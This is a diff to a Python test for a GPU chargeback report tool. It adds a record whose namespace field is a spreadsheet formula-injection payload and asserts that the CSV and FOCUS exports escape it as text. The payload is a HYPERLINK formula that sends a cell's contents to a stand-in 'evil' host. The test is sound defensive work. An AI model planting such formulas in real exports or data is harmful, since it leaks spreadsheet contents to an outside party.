@@ -2,7 +2,7 @@
 
 Windows with NaN and infinite costs, one from year -29719 and one at Avro's lowest long sit between
 good windows on a real topic; each format of ``gpupipe report chargeback --period all`` succeeds, says
-what it skipped, and totals exactly the good windows.
+what it skipped, and totals exactly the good windows; a namespace that is a formula stays text in CSV and FOCUS.
 """
 
 from __future__ import annotations
@@ -35,6 +35,9 @@ def test_every_format_survives_outlier_windows(kafka: str, topic_prefix: str) ->
     ensure_topics(kafka, [topics.CHARGEBACK], prefix=topic_prefix)
     topic = topics.with_prefix(topic_prefix, topics.CHARGEBACK)
     good = simulated_windows(2, nodes=1, gpus_per_node=2)
+    formula = copy.deepcopy(good[0])  # in bounds, billed, and must stay text in a spreadsheet
+    formula.update(record_id="formula", namespace='=HYPERLINK("http://evil/?x="&A1,"click")')
+    good.append(formula)
     hostile = []
     for i, change in enumerate(
         (
@@ -70,3 +73,5 @@ def test_every_format_survives_outlier_windows(kafka: str, topic_prefix: str) ->
     assert got and not any(r.get("namespace", "").startswith("hostile") for r in got)
     assert abs(sum(float(r["cost"]) for r in got if r.get("namespace") != "TOTAL") - want) < 0.01
     assert "nan" not in outputs["table"].lower().split()
+    assert [r["namespace"] for r in got if "HYPERLINK" in r["namespace"]] == ["'" + formula["namespace"]]
+    assert "'=HYPERLINK" in outputs["focus"] and ",=HYPERLINK" not in outputs["focus"]
